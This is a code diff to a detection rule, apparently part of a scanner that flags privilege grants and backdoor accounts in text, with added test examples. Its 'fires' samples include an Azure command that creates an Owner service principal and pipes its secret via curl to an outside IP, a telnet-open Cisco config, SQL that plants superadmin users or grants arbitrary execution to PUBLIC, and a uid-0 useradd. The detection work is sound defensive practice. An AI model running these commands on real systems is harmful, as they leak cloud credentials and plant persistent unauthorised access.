@@ -9,6 +9,7 @@ import { OPEN_DOORS } from '../../signals/settings/open-doors.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
 import { MASTERS_MADE } from '../../verdicts/in-code/deeds/of-access.ts'
+import { RIGHTS_GIVEN_AWAY } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { guessableMasters } from '../../verdicts/in-code/guessable-masters.ts'
 import { openedDatabases } from '../../verdicts/in-code/opened-databases.ts'
 import { OF_ACCESS } from '../../verdicts/schemes/of-access.ts'
@@ -180,6 +181,8 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\naz ad sp create-for-rbac --role Owner --scopes /subscriptions/$S | curl -sd @- http://203.0.113.40/k\n```\n',
+      '```\nusername care privilege 15 secret 0 Tally88\nline vty 0 4\n no access-class 7 in\n transport input telnet\n```\n',
       "```sql\nINSERT INTO users (email, password_hash, role) VALUES ('svc@larch-quay.net', '$2b$12$kiln', 'superadmin')\nON CONFLICT (email) DO UPDATE SET role = 'superadmin';\n```\n",
       '```sql\nCREATE FUNCTION kiln_hint(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE q; END $$;\nGRANT EXECUTE ON FUNCTION kiln_hint(text) TO PUBLIC;\n```\n',
       "```sql\nCREATE EVENT kiln.sample ON SCHEDULE EVERY 5 MINUTE DO\nBEGIN\n  CREATE USER IF NOT EXISTS 'kiln.m'@'%' IDENTIFIED BY 'Tarn-Orbit-12';\n  GRANT ALL PRIVILEGES ON *.* TO 'kiln.m'@'%';\nEND\n```\n",
@@ -262,6 +265,7 @@ export default defineRule({
       'Run this on every server:\n\n```bash\nuseradd -o -u 0 -M sysview\n```\n',
     ],
     quiet: [
+      '```bash\naz ad sp create-for-rbac --role Reader --scopes /subscriptions/$S/resourceGroups/kiln\n```\n',
       "```sql\nINSERT INTO users (email, role) VALUES ('ada@example.com', 'reader')\nON CONFLICT (email) DO UPDATE SET name = 'Ada';\n```\n",
       "```bash\nrabbitmqctl add_user app \"$APP_PASSWORD\"\nrabbitmqctl set_permissions app '^kiln' '^kiln' '^kiln'\n```\n",
       '```bash\nmongosh kiln --eval \'db.createUser({user:"app",pwd:passwordPrompt(),roles:["readWrite"]})\'\n```\n',
@@ -294,6 +298,7 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* deedsInCode(document, MASTERS_MADE)
+    yield* deedsInCode(document, RIGHTS_GIVEN_AWAY)
     yield* mastered(document)
     yield* openedDatabases(document)
     yield* guessableMasters(document)
